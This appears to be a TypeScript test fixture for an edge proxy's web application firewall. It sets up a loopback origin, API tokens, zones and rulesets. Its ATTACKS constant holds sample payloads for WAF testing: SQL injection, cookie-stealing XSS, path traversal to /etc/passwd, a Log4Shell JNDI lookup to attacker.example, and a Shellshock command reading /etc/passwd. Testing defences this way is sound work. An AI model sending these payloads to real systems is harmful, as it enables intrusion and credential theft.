import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createFakeClock } from '@cairn/kit';
import { createTestDeps, serveOnLoopback, type TestDeps } from '@cairn/kit/testing';
import { Agent, request } from 'undici';
import {
  CONFIG_CHANNEL,
  createApiToken,
  createEdge,
  createZone,
  type Edge,
  type EdgeProxy,
  edgeMigrations,
  ensureAccount,
  loadProxyConfig,
  type PlanName,
  type Zone,
} from '../src/index.ts';
import { type Answer, call } from './helpers.ts';

/** What the test origin saw of a request. */
export interface Seen {
  method: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
  rawHeaders: string[];
  bodyLength: number;
  bodySha256: string;
}

/**
 * A small origin on loopback: `/echo…` answers what it received as JSON; `/stream` sends chunks over
 * time; `/big?bytes=N` sends N bytes; `/slow` never answers; `/status/N` answers N with two cookies.
 */
export async function startOrigin(): Promise<{
  url: string;
  server: Server;
  seen: Seen[];
  close(): Promise<void>;
}> {
  const seen: Seen[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    // A request the proxy aborts mid-body (its client went away) rejects the body read: the origin just
    // drops that exchange, as a real server would, instead of leaving an unhandled rejection.
    answer(req, res).catch(() => res.destroy());
  });
  async function answer(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const hash = createHash('sha256');
    let length = 0;
    for await (const chunk of req as AsyncIterable<Buffer>) {
      hash.update(chunk);
      length += chunk.length;
    }
    const s: Seen = {
      method: req.method ?? '',
      url: req.url ?? '',
      headers: req.headers,
      rawHeaders: req.rawHeaders,
      bodyLength: length,
      bodySha256: hash.digest('hex'),
    };
    seen.push(s);
    // A target the WHATWG parser refuses (`/\` reads as `//`, a URL without a host) is a path all the
    // same: a real origin answers it rather than dropping the connection.
    const url = URL.canParse(req.url ?? '/', 'http://origin')
      ? new URL(req.url ?? '/', 'http://origin')
      : new URL('/unparsable', 'http://origin');
    if (url.pathname === '/stream') {
      res.writeHead(200, { 'content-type': 'text/plain' });
      for (let i = 0; i < 5; i++) {
        res.write(`chunk ${i}\n`);
        await new Promise((r) => setTimeout(r, 20));
      }
      res.end();
      return;
    }
    if (url.pathname === '/big') {
      const bytes = Number(url.searchParams.get('bytes') ?? '0');
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': String(bytes) });
      const block = Buffer.alloc(65_536, 'x');
      let left = bytes;
      while (left > 0) {
        const piece = block.subarray(0, Math.min(left, block.length));
        left -= piece.length;
        if (!res.write(piece)) await new Promise((r) => res.once('drain', r));
      }
      res.end();
      return;
    }
    if (url.pathname === '/slow') return; // never answers
    const status = url.pathname.startsWith('/status/') ? Number(url.pathname.slice(8)) : 200;
    res.writeHead(status, [
      ['content-type', 'application/json'],
      ['set-cookie', 'a=1; Path=/'],
      ['set-cookie', 'b=2; Path=/'],
      ['x-origin', 'yes'],
      ['connection', 'keep-alive, x-hop'],
      ['x-hop', 'must not pass'],
    ]);
    res.end(JSON.stringify(s));
  }
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    server,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

export interface ProxyFixture {
  deps: TestDeps;
  edge: Edge;
  proxy: EdgeProxy;
  origin: Awaited<ReturnType<typeof startOrigin>>;
  api: string;
  token: string;
  accountId: string;
  makeToken(zoneIds: string[], permissions: string[]): Promise<string>;
  /** A zone with the origin set, on the given plan. */
  zone(name: string, plan: PlanName, migration?: 'validation' | 'complete'): Promise<Zone>;
  /** An edge API call. */
  call(method: string, path: string, body?: unknown): Promise<Answer>;
  /** A request through the proxy with the given Host. */
  send(host: string, path: string, options?: SendOptions): Promise<Received>;
  /** Waits until the zone's configuration change reached the engine (NOTIFY). */
  changed(zoneId: string, change: () => Promise<unknown>): Promise<void>;
  events(zoneId: string, query?: string): Promise<Record<string, unknown>[]>;
  close(): Promise<void>;
}

export interface SendOptions {
  method?: 'GET' | 'POST' | 'PUT' | 'HEAD';
  headers?: Record<string, string>;
  body?: string | Buffer;
}

export interface Received {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
}

const dispatcher = new Agent({ keepAliveTimeout: 1000 });

/** How long a test waits for a configuration NOTIFY: generous, since a loaded 2-core CI machine compiling CRS plans can take seconds. */
const NOTIFY_WAIT_MS = 30_000;

export async function startProxyFixture(env: Record<string, string> = {}): Promise<ProxyFixture> {
  const clock = createFakeClock();
  const deps = await createTestDeps(edgeMigrations, { clock, env });
  const edge = createEdge(
    deps,
    { crsDir: '/usr/share/modsecurity-crs' },
    loadProxyConfig({ EDGE_ORIGIN_TIMEOUT_MS: '1500', EDGE_ORIGIN_CONNECT_TIMEOUT_MS: '1000', ...env }),
  );
  const server = await serveOnLoopback(deps, [edge.module]);
  const proxy = await edge.startProxy({ port: 0, host: '127.0.0.1' });
  const origin = await startOrigin();
  const account = await ensureAccount(edge.deps, 'Acme');
  const token = (
    await createApiToken(edge.deps, {
      accountId: account.id,
      name: 'test',
      zoneIds: ['*'],
      permissions: ['edit'],
    })
  ).secret;
  const api = `${server.baseUrl}/client/v4`;
  // Waits until every configuration NOTIFY committed so far has reached the engine: a marker sent
  // last arrives last (PostgreSQL delivers notifications in commit order), so a zone's creation
  // cannot drop a plan compiled after the fixture returned.
  let markers = 0;
  const settled = async () => {
    const marker = `settled-${++markers}`;
    const arrived = edge.engine.nextInvalidation(marker, NOTIFY_WAIT_MS);
    await deps.db.query('SELECT pg_notify($1, $2)', [CONFIG_CHANNEL, marker]);
    await arrived;
  };
  const f: ProxyFixture = {
    deps,
    edge,
    proxy,
    origin,
    api,
    token,
    accountId: account.id,
    makeToken: async (zoneIds, permissions) =>
      (await createApiToken(edge.deps, { accountId: account.id, name: 'test', zoneIds, permissions })).secret,
    async zone(name, plan, migration) {
      const zone = await createZone(edge.deps, { accountId: account.id, name, plan, origin: origin.url });
      if (migration) {
        await deps.db.query('UPDATE edge_zones SET waf_migration_state = $2 WHERE id = $1', [
          zone.id,
          migration,
        ]);
      }
      await settled();
      return migration ? { ...zone, wafMigrationState: migration } : zone;
    },
    call: (method, path, body) => call({ api, token }, method, path, body === undefined ? {} : { body }),
    async send(host, path, options = {}) {
      const res = await request(`${proxy.address}${path}`, {
        method: options.method ?? 'GET',
        headers: { host, 'user-agent': 'cairn-test/1.0', ...options.headers },
        ...(options.body === undefined ? {} : { body: options.body }),
        dispatcher,
      });
      return { status: res.statusCode, headers: res.headers, text: await res.body.text() };
    },
    async changed(zoneId, change) {
      const arrived = edge.engine.nextInvalidation(zoneId, NOTIFY_WAIT_MS);
      await change();
      await arrived;
    },
    async events(zoneId, query = '') {
      await edge.recorder.flush();
      const answer = await f.call('GET', `/zones/${zoneId}/security/events${query}`);
      if (answer.status !== 200) throw new Error(answer.text);
      return answer.body.result as Record<string, unknown>[];
    },
    async close() {
      await edge.stopProxy();
      await origin.close();
      await server.close();
      await deps.db.close();
    },
  };
  return f;
}

/** An attack of each class the issue names, as a request through the proxy. */
export const ATTACKS: Record<string, SendOptions & { path: string }> = {
  sqli: { path: "/item?id=1'%20union%20select%20password%20from%20users--" },
  xss: { path: '/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E' },
  traversal: { path: '/files?name=..%2F..%2F..%2Fetc%2Fpasswd' },
  log4shell: { path: '/', headers: { 'x-api-version': ['$', '{jndi:ldap://attacker.example/a}'].join('') } },
  shellshock: {
    path: '/cgi-bin/status',
    headers: { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' },
  },
};

export const EDGE_RULESET = 'efb7b8c949ac4650a09736fc376e9aee';
export const OWASP_RULESET = '4814384a9e5d4991b9815dcfc25d2f1f';
export const ANOMALY_RULE = '6179ae15870a4bb7b2d480d4843b323c';

/** Category overrides that leave the OWASP ruleset at paranoia level `pl`. */
export const paranoia = (pl: number) =>
  [2, 3, 4].filter((n) => n > pl).map((n) => ({ category: `paranoia-level-${n}`, enabled: false }));

/**
 * Resolves once every worker of the WAF pool has loaded the CRS the zone's plan runs (until then the engine
 * evaluates inline; the workers load in the background after the plan compiles).
 */
export async function poolReady(f: ProxyFixture, zoneId: string): Promise<void> {
  const profiles = (await f.edge.engine.planFor(zoneId))?.crsProfiles ?? [];
  for (let i = 0; i < 1200; i++) {
    if (f.edge.engine.pool?.ready(profiles)) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('the WAF worker pool did not load the CRS within 60 s');
}

/** Deploys both managed rulesets on the zone (the OWASP one at paranoia level `pl`) and waits until the proxy has them. */
export async function deployManaged(f: ProxyFixture, zoneId: string, pl = 1): Promise<void> {
  await putManagedEntrypoint(f, zoneId, [
    { action: 'execute', expression: 'true', action_parameters: { id: EDGE_RULESET } },
    {
      action: 'execute',
      expression: 'true',
      action_parameters: { id: OWASP_RULESET, overrides: { categories: paranoia(pl) } },
    },
  ]);
}

/** Deploys the edge managed ruleset alone on the zone and waits until the proxy has it. */
export async function deployEdgeRuleset(f: ProxyFixture, zoneId: string): Promise<void> {
  await putManagedEntrypoint(f, zoneId, [
    { action: 'execute', expression: 'true', action_parameters: { id: EDGE_RULESET } },
  ]);
}

async function putManagedEntrypoint(f: ProxyFixture, zoneId: string, rules: unknown[]): Promise<void> {
  await f.changed(zoneId, async () => {
    const res = await f.call(
      'PUT',
      `/zones/${zoneId}/rulesets/phases/http_request_firewall_managed/entrypoint`,
      {
        rules,
      },
    );
    if (res.status !== 200) throw new Error(`deploying the managed rulesets: ${res.status} ${res.text}`);
  });
}
